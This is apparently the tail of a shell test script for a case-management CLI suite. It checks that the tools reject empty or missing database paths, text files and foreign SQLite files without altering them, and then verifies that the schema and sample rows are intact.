refuses "--db empty (writer)" 1 "the database path is empty" - \
	case-followup --db "" note -m x 1
refuses "--db empty (reader)" 1 "the database path is empty" - \
	case-report --db ""
refuses "--db in a missing folder (writer)" 1 "no database at $T/nowhere/cases.db" - \
	case-assign --db "$T/nowhere/cases.db" -u pcs-qianjin 1
refuses "--db in a missing folder (init)" 1 "its folder does not exist" - \
	case-admin init --db "$T/nowhere/cases.db"
refuses "--db in a missing folder (reader)" 1 "no database at $T/nowhere/cases.db" - \
	case-report --db "$T/nowhere/cases.db"
[ ! -e "$T/nowhere" ] && ok "--db in a missing folder: no folder was made" ||
	not_ok "--db in a missing folder: no folder was made"

printf 'id,summary\n1,这不是数据库\n' >"$T/text.db"
cp "$T/text.db" "$T/text.db.orig"
for cmd in "case-open -k request x" "case-admin unit add u-z z" \
	"case-followup note -m x 1" "case-assign -u pcs-qianjin 1"; do
	refuses "CASE_DB a text file: ${cmd%% *}" 1 "$T/text.db is not a database" - \
		env CASE_DB="$T/text.db" $cmd
done
refuses "CASE_DB a text file: case-report" 1 "is not a database" - \
	env CASE_DB="$T/text.db" case-report
file_kept "$T/text.db" "$T/text.db.orig" "CASE_DB a text file: the file is untouched"
sqlite3 "$T/other.db" "CREATE TABLE cases(id INTEGER PRIMARY KEY, title TEXT);
	INSERT INTO cases VALUES (1, 'another application''s row');"
cp "$T/other.db" "$T/other.db.orig"
for cmd in "case-open -k request x" "case-admin unit add u-z z" \
	"case-followup note -m x 1" "case-assign -u pcs-qianjin 1" "case-admin init"; do
	refuses "CASE_DB another application's SQLite file: ${cmd%% *} ${cmd#* }" 1 \
		"$T/other.db is an SQLite file but not a case database" - \
		env CASE_DB="$T/other.db" $cmd
done
refuses "CASE_DB another application's SQLite file: case-report" 1 \
	"is an SQLite file but not a case database" - \
	env CASE_DB="$T/other.db" case-report -l
refuses "CASE_DB another application's SQLite file: case-admin check" 1 \
	"is an SQLite file but not a case database" - \
	env CASE_DB="$T/other.db" case-admin check
# Refusing must not first switch the other application's file to WAL or
# otherwise write to it.
file_kept "$T/other.db" "$T/other.db.orig" \
	"CASE_DB another application's SQLite file: the file is byte for byte untouched"
# (A file on either backend, read by the sqlite3 shell.)
[ "$(sqlite3 -batch "$T/other.db" "PRAGMA journal_mode")" = delete ] &&
	ok "CASE_DB another application's SQLite file: still in its own journal mode" ||
	not_ok "CASE_DB another application's SQLite file: still in its own journal mode"
[ "$(sqlite3 -batch "$T/other.db" "SELECT * FROM cases")" = "1|another application's row" ] &&
	ok "CASE_DB another application's SQLite file: its rows are intact" ||
	not_ok "CASE_DB another application's SQLite file: its rows are intact"

# ---- afterwards ------------------------------------------------------------

run case-admin check
expect "after every hostile input, check passes" 0 "" ""
if [ "$BACKEND" = pg ]; then
	# A server's schema has no FTS5 table: its search is an index.
	sql "SELECT tablename FROM pg_tables WHERE schemaname = 'case_tools'" >"$T/out"
	want_tables="assignments cases events member_units members meta policy supervisors units visits"
else
	run sqlite3 "$CASE_DB" .tables
	want_tables="assignments cases cases_fts events policy search_upto supervisors units visits"
fi
tables=$(tr -s ' \n' '\n\n' <"$T/out" | grep -v '^$' | grep -v '^cases_fts_' | sort | paste -sd' ' -)
[ "$tables" = "$want_tables" ] &&
	ok "every table is still there ($tables)" ||
	not_ok "every table is still there (have: $tables)"
check_sql "the first three cases are as they were" \
	"1|dispute|open|楼下噪音
2|hazard|assigned|楼道煤气味
3|request|resolved|路灯不亮" \
	"SELECT id, kind, status, summary FROM cases WHERE id <= 3"
check_sql "every event belongs to a case" "0" \
	"SELECT count(*) FROM events WHERE case_id NOT IN (SELECT id FROM cases)"

done_testing
